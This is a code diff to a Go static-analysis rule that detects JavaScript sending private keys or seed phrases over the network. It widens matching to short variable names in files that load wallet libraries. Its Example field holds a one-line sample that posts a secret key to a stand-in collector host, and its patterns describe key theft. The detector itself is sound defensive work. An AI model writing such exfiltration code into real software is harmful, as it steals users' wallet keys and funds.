@@ -610,10 +610,11 @@ type SecretExfil struct{}
 // Meta implements analyze.Rule.
 func (SecretExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/secret-exfil", Version: 2, Title: "Sends private keys or seed phrases to the network",
+		ID: "cred/secret-exfil", Version: 3, Title: "Sends private keys or seed phrases to the network",
 		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
 			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name " +
-			"alone would match them all). Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
+			"alone would match them all). In a file that loads a wallet library (ethers, web3, bip39, @solana/web3.js…) the short names " +
+			"such code uses count too: pk, phrase, words (fromMnemonic(phrase) posting phrase); key alone is every cache's. Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
 		Remediation:     "Do not use this version; move funds from any key it handled.",
 		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
@@ -622,9 +623,27 @@ func (SecretExfil) Meta() analyze.Meta {
 
 var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|seed_?phrase|seed|priv_?key|wallet_?key|keypair)s?$`)
 
+// walletSecretName matches the short names wallet code gives key material
+// (fromMnemonic(phrase), sign(pk)): counted only in a file that loads a
+// wallet library.
+var walletSecretName = regexp.MustCompile(`(?i)^_?(pk|phrase|words)$`)
+
+// walletLibrary reports a module that holds or derives wallet keys.
+func walletLibrary(m string) bool {
+	switch m {
+	case "ethers", "web3", "viem", "bip39", "bip32", "hdkey", "ed25519-hd-key", "tweetnacl", "bitcoinjs-lib", "ethereumjs-wallet", "@solana/web3.js", "ethereum-cryptography":
+		return true
+	}
+	return strings.HasPrefix(m, "@ethersproject/") || strings.HasPrefix(m, "@scure/bip") || strings.HasPrefix(m, "@ethereumjs/")
+}
+
 // Check implements analyze.Rule.
 func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
+		wallet := false
+		for _, im := range f.Facts.Imports {
+			wallet = wallet || walletLibrary(im.Module)
+		}
 		for _, c := range f.Facts.Calls {
 			sender := rulekit.IsNetCall(c) || c.Sender
 			if !sender {
@@ -633,7 +652,7 @@ func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 			for _, a := range c.Args {
 				hit := ""
 				for _, n := range a.Names {
-					if secretName.MatchString(n) {
+					if secretName.MatchString(n) || wallet && walletSecretName.MatchString(n) {
 						hit = n
 						break
 					}
